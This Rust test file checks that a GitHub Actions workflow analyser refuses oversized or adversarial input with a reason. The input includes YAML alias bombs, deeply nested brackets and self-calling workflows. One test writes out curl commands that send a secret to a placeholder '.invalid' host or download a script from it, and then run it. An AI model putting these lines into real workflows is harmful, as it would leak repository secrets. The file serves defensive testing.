//! What is too large or too clever is refused with its reason; that these tests end is half of them.

use beholden::power::{self, Text, Tree};

use crate::power::shown::{job, named, one, public, steps, unknowns};

#[test]
fn too_much_is_refused_with_a_reason() {
    let jobs: String = (0..10_000)
        .map(|n| format!("  j{n}: {{runs-on: ubuntu-latest, steps: [{{run: a}}]}}\n"))
        .collect();
    let many_jobs = format!("on: push\njobs:\n{jobs}");
    let aliases =
        format!("on: push\nx: &a [1, 2]\ny: [{}]\njobs: {{}}\n", vec!["*a"; 500].join(", "));
    let large = format!("on: push\n# {}\n", "x".repeat(10_000_000));
    for (what, text, why) in [
        ("10,000 jobs", many_jobs, "more than 1000 jobs"),
        ("10 MB", large, "more than are read"),
        (
            "expressions",
            format!("on: push\nenv: {{A: '{}'}}\njobs: {{}}\n", "${{ a }}".repeat(6_000)),
            "more than 5000 expressions",
        ),
        ("aliases", aliases, "more than 200 aliases"),
        (
            "deep",
            format!("on: push\njobs: {}1{}", "[".repeat(50_000), "]".repeat(50_000)),
            "brackets at once",
        ),
    ] {
        let powers = one(&text);
        assert!(powers.grants().is_empty(), "{what}");
        assert!(unknowns(&powers)[0].contains(why), "{what}: {:?}", unknowns(&powers));
    }
}

#[test]
fn anchors_that_multiply_are_refused() {
    let mut bomb = String::from("on: push\na0: &a0 [x, x, x, x, x, x, x, x, x]\n");
    for level in 1..12 {
        let inner = vec![format!("*a{}", level - 1); 9].join(", ");
        bomb.push_str(&format!("a{level}: &a{level} [{inner}]\n"));
    }
    bomb.push_str("jobs: {a: {runs-on: ubuntu-latest, steps: []}}\n");
    let powers = one(&bomb);
    assert!(!powers.unknowns().is_empty(), "refused");
}

#[test]
fn what_calls_itself_ends() {
    let selfish = "on: [push, workflow_call]\njobs: {a: {uses: ./.github/workflows/ci.yml}}\n";
    assert!(unknowns(&one(selfish))[0].contains("more than 10 calls"));
    let action = "runs: {using: composite, steps: [{uses: ./a}, {uses: ./a}]}";
    let ci = steps("push", "- uses: ./a");
    let tree: Tree =
        [(".github/workflows/ci.yml", ci.as_str()), ("a/action.yml", action)].into_iter().collect();
    let powers = power::of(&tree, &public());
    assert!(!powers.unknowns().is_empty());
}

#[test]
fn calls_that_multiply_are_cut_off() {
    let calls = |to: &str| -> String {
        (0..100).map(|n| format!("  j{n}: {{uses: ./.github/workflows/{to}.yml}}\n")).collect()
    };
    let chain = |to: &str| format!("on: [push, workflow_call]\njobs:\n{}", calls(to));
    let files: Vec<(String, String)> = ["a", "b", "c", "d"]
        .windows(2)
        .map(|pair| (format!(".github/workflows/{}.yml", pair[0]), chain(pair[1])))
        .chain([(".github/workflows/d.yml".to_owned(), steps("workflow_call", "- run: a"))])
        .collect();
    let tree: Tree = files.iter().map(|(path, text)| (path, text)).collect();
    let powers = power::of(&tree, &public());
    assert!(unknowns(&powers).iter().any(|why| why.contains("jobs and steps")));
    assert!(powers.grants().len() < 100_000, "{}", powers.grants().len());
}

#[test]
fn variables_times_steps_are_cut_off() {
    let variables: String =
        (0..3_000).map(|n| format!("  V{n}: ${{{{ secrets.A{n} }}}}\n")).collect();
    let list = "- run: a\n".repeat(900);
    let powers = one(&job("push", &format!("env:\n{variables}steps:\n{list}")));
    let whys = unknowns(&powers);
    assert!(whys.iter().any(|why| why.contains("too many variables")), "{whys:?}");
}

#[test]
fn a_script_of_thousands_of_lines_is_read_to_its_bounds() {
    let env = "\n  env: {K: '${{ secrets.K }}'}";
    for line in [
        "curl -d $K https://h{n}.invalid/",
        "curl -o f{n}.sh https://h.invalid/f{n}.sh",
        "echo $K > out{n}",
        "bash s{n}.sh",
    ] {
        let lines: String =
            (0..5_000).map(|n| format!("    {}\n", line.replace("{n}", &n.to_string()))).collect();
        let powers = one(&steps("push", &format!("- run: |\n{lines}{env}")));
        assert!(named(&powers, "build").power.secrets.len() == 1, "{line}");
    }
}

#[test]
fn files_that_could_not_be_read_are_unknown() {
    for (contents, why) in [
        (Text::NotText, "is not text"),
        (Text::TooLarge { bytes: 2_000_000 }, "2000000 bytes"),
        (Text::Unread { why: "GitHub did not answer".to_owned() }, "GitHub did not answer"),
    ] {
        let mut tree = Tree::new();
        tree.put(".github/workflows/ci.yml", contents);
        let powers = power::of(&tree, &public());
        assert!(unknowns(&powers)[0].contains(why), "{:?}", unknowns(&powers));
    }
    let mut tree = Tree::new();
    tree.put_bytes(".github/workflows/ci.yml", &[0xff, 0xfe, 0x00]);
    assert_eq!(power::of(&tree, &public()).unknowns().len(), 1);
}

#[test]
fn a_large_workflow_is_read_whole() {
    let jobs: String = (0..300).map(|n| format!("  j{n}:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: octo-org/act@v1\n        with: {{k: '${{{{ secrets.K }}}}'}}\n      - run: make\n")).collect();
    let powers = one(&format!("on: push\njobs:\n{jobs}"));
    assert_eq!(powers.grants().len(), 600);
}

#[test]
fn a_script_with_too_much_in_its_hands_is_cut_off() {
    let all: String = (0..1_000).map(|n| format!("${{{{ secrets.K{n} }}}}")).collect();
    let copies: String = (0..1_000).map(|n| format!("    A{n}=$V\n")).collect();
    let list = format!("- env: {{V: '{all}'}}\n  run: |\n{copies}");
    let powers = one(&steps("push", &list));
    assert!(unknowns(&powers)[0].contains("too much of one kind"), "{:?}", unknowns(&powers));
}
